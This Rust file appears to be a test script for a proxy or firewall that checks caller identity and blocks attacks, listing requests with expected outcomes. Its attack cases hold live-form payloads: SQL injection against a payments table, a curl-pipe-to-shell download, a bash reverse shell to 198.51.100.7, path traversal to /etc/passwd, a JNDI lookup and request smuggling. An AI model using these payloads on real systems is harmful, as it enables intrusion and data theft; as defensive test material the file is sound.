//! What the callers send, and what is expected to become of it. The table is the demonstration; the rest only runs it.

/// Who calls.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Who {
    /// `ns/shop/sa/frontend`.
    Frontend,
    /// `ns/shop/sa/reports`.
    Reports,
    /// Nobody: no certificate.
    Nobody,
    /// `ns/shop/sa/frontend`, but by another authority.
    Impostor,
}

impl Who {
    /// As the table calls them.
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::Frontend => "shop/frontend",
            Self::Reports => "shop/reports",
            Self::Nobody => "no certificate",
            Self::Impostor => "forged certificate",
        }
    }
}

/// How a refusal is said.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Said {
    /// An HTTP status.
    Http(u16),
    /// A gRPC status.
    Grpc(u16),
    /// The code that closes a WebSocket.
    Close(u16),
}

/// What is expected.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Expected {
    /// The service answers.
    Served,
    /// Refused in these words and, in the record, a reason that begins like this.
    Refused(Said, &'static str),
    /// No TLS connection; the record's reason begins like this.
    NoHandshake(&'static str),
}

/// One request.
pub(super) struct Step {
    pub(super) who: Who,
    /// What the table says of it.
    pub(super) what: &'static str,
    pub(super) message: Message,
    pub(super) expected: Expected,
}

/// What is sent.
pub(super) enum Message {
    /// HTTP/1.1, byte by byte.
    Bytes(Vec<u8>),
    /// A request over HTTP/2: method, target, content type, body.
    Http2(&'static str, &'static str, &'static str, Vec<u8>),
    /// A text message, on a WebSocket that was granted.
    WebSocket(&'static str),
}

use Expected::{NoHandshake, Refused, Served};
use Said::{Close, Grpc, Http};
use Who::{Frontend, Impostor, Nobody, Reports};

/// The whole demonstration, in order.
pub(super) fn script() -> Vec<Step> {
    let mut steps = served();
    steps.extend(outside_the_allowlist());
    steps.extend(attacks());
    steps.extend(malformed());
    steps.extend(other_carriers());
    steps
}

/// What is granted and what is not do not depend on what carries it.
fn other_carriers() -> Vec<Step> {
    const GRPC: &str = "application/grpc";
    const ATTACK: &str = "tea' UNION SELECT card, cvv FROM payments --";
    let http2 = |what, method, target, kind, body, expected| Step {
        who: Frontend,
        what,
        message: Message::Http2(method, target, kind, body),
        expected,
    };
    let socket = |what, text, expected| Step { who: Frontend, what, message: Message::WebSocket(text), expected };
    let json = format!("{{\"item\":{ATTACK:?}}}").into_bytes();
    vec![
        http2("HTTP/2: GET /orders/17", "GET", "/orders/17", "", Vec::new(), Served),
        http2("HTTP/2: SQL injection in JSON", "POST", "/orders", JSON, json, Refused(Http(403), "attack-")),
        http2("gRPC: shop.Orders/Get", "POST", "/shop.Orders/Get", GRPC, grpc("tea; black"), Served),
        http2(
            "gRPC: method not granted",
            "POST",
            "/shop.Orders/Drop",
            GRPC,
            grpc("tea"),
            Refused(Grpc(7), "policy-no-rule"),
        ),
        http2(
            "gRPC: SQL injection in a field",
            "POST",
            "/shop.Orders/Get",
            GRPC,
            grpc(ATTACK),
            Refused(Grpc(7), "attack-"),
        ),
        socket("WebSocket: a message", "tea, please", Served),
        socket("WebSocket: SQL injection in a message", ATTACK, Refused(Close(1008), "attack-")),
    ]
}

/// A message whose first field is this text of less than 126 bytes, as gRPC frames it.
fn grpc(text: &str) -> Vec<u8> {
    let length = text.len() as u8;
    [&[0, 0, 0, 0, length + 2, 0x0a, length], text.as_bytes()].concat()
}

fn served() -> Vec<Step> {
    vec![
        get(Frontend, "GET /orders/17", "/orders/17", Served),
        get(Frontend, "GET /orders?status=open", "/orders?status=open&limit=20", Served),
        get(Frontend, "GET /search, a name with an apostrophe", "/search?q=Conan%20O%27Brien%20%26%20Sons", Served),
        post(
            Frontend,
            "POST /orders, JSON",
            "/orders",
            JSON,
            r#"{"item":"tea; black","note":"select the best","qty":2}"#,
            Served,
        ),
        post(Frontend, "POST /import, XML", "/import", XML, "<order><item>tea &amp; cake</item></order>", Served),
        get(Reports, "GET /reports/daily", "/reports/daily", Served),
    ]
}

fn outside_the_allowlist() -> Vec<Step> {
    vec![
        get(Nobody, "GET /orders/17", "/orders/17", NoHandshake("tls-")),
        get(Impostor, "GET /orders/17", "/orders/17", NoHandshake("tls-")),
        get(Reports, "GET /orders/17: wrong identity", "/orders/17", Refused(Http(403), "policy-no-rule")),
        get(Frontend, "GET /admin/users: path not granted", "/admin/users", Refused(Http(403), "policy-")),
        raw(
            Frontend,
            "DELETE /orders/17: method not granted",
            "DELETE /orders/17 HTTP/1.1\r\nhost: orders\r\n\r\n",
            Refused(Http(403), "policy-no-rule"),
        ),
    ]
}

fn attacks() -> Vec<Step> {
    const ATTACK: Expected = Refused(Http(403), "attack-");
    vec![
        get(
            Frontend,
            "SQL injection in a query",
            "/search?q=tea%27%20UNION%20SELECT%20card,cvv%20FROM%20payments--",
            ATTACK,
        ),
        post(
            Frontend,
            "SQL injection in JSON",
            "/orders",
            JSON,
            r#"{"item":"x' OR 1=1; DROP TABLE orders; --","qty":1}"#,
            ATTACK,
        ),
        post(
            Frontend,
            "shell command in XML",
            "/import",
            XML,
            "<order><item>tea; curl http://198.51.100.7/x.sh | sh</item></order>",
            ATTACK,
        ),
        post(
            Frontend,
            "reverse shell in JSON",
            "/orders",
            JSON,
            r#"{"item":"$(bash -i >& /dev/tcp/198.51.100.7/4444 0>&1)"}"#,
            ATTACK,
        ),
        get(Frontend, "path traversal", "/files/%2e%2e/%2e%2e/etc/passwd", Refused(Http(403), "")),
        raw(
            Frontend,
            "JNDI lookup in a header",
            "GET /orders/17 HTTP/1.1\r\nhost: orders\r\nuser-agent: ${jndi:ldap://198.51.100.7/a}\r\n\r\n",
            ATTACK,
        ),
    ]
}

fn malformed() -> Vec<Step> {
    const SMUGGLED: &str = "POST /orders HTTP/1.1\r\nhost: orders\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /admin/users HTTP/1.1\r\nhost: orders\r\n\r\n";
    let oversized = format!("GET /orders/17 HTTP/1.1\r\nhost: orders\r\nx-filler: {}\r\n\r\n", "a".repeat(70_000));
    let large = "x".repeat(300 * 1024);
    vec![
        raw(Frontend, "request smuggling: two lengths", SMUGGLED, Refused(Http(400), "http1-")),
        raw(
            Frontend,
            "a bare line feed",
            "GET /orders/17 HTTP/1.1\nhost: orders\r\n\r\n",
            Refused(Http(400), "http1-"),
        ),
        raw(
            Frontend,
            "two Host headers",
            "GET /orders/17 HTTP/1.1\r\nhost: orders\r\nhost: admin\r\n\r\n",
            Refused(Http(400), "http1-"),
        ),
        raw(
            Frontend,
            "a forged identity header",
            "GET /orders/17 HTTP/1.1\r\nhost: orders\r\nX_Forwarded_Client_Cert: URI=spiffe://cluster.test/ns/shop/sa/root\r\n\r\n",
            Refused(Http(400), "http1-"),
        ),
        raw(Frontend, "an oversized head", &oversized, Refused(Http(431), "http1-")),
        post(Frontend, "a body too large to inspect", "/orders", JSON, &large, Refused(Http(413), "limit-")),
    ]
}

const JSON: &str = "application/json";
const XML: &str = "application/xml";

fn get(who: Who, what: &'static str, target: &str, expected: Expected) -> Step {
    raw(who, what, &format!("GET {target} HTTP/1.1\r\nhost: orders\r\naccept: */*\r\n\r\n"), expected)
}

fn post(who: Who, what: &'static str, target: &str, kind: &str, body: &str, expected: Expected) -> Step {
    let length = body.len();
    let head =
        format!("POST {target} HTTP/1.1\r\nhost: orders\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\n\r\n");
    raw(who, what, &(head + body), expected)
}

fn raw(who: Who, what: &'static str, bytes: &str, expected: Expected) -> Step {
    Step { who, what, message: Message::Bytes(bytes.as_bytes().to_vec()), expected }
}
